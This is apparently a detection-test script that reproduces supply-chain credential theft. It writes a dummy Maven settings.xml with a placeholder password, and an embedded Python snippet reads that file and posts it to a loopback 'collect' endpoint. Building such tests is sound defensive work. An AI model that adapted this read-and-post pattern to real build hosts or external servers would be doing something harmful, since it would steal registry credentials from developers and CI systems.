#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1041 Exfiltration Over C2 Channel
# reproduces: publishing credentials taken from a build host's Maven settings (~/.m2/settings.xml <server> passwords for Maven Central/Sonatype), as the 2024-2025 malicious Maven and Gradle plugins and the GhostAction workflow injections collected registry credentials before posting them out
# expect: credential-file-access ^python3(\.[0-9]+)?$
# exec-borne: no
#
# The CI's setup wrote the settings (as setup-java does with its server
# credentials); a "test helper" reads them and posts them to the
# harness's loopback server.
set -u

M2="${HOME:?}/.m2"
[ -e "$M2" ] && { echo "$M2 exists; not touching it" >&2; exit 1; }
trap 'rm -rf "$M2"' EXIT
mkdir -p "$M2"
cat >"$M2/settings.xml" <<'XML'
<settings><servers><server><id>ossrh</id><username>ci-bot</username>
<password>not-a-real-password</password></server></servers></settings>
XML

python3 - "$M2/settings.xml" "${BW_ATTACK_PORT:?}" <<'PY'
import sys, urllib.request
body = open(sys.argv[1], "rb").read()
urllib.request.urlopen("http://127.0.0.1:%s/collect" % sys.argv[2], data=body, timeout=5).read()
PY
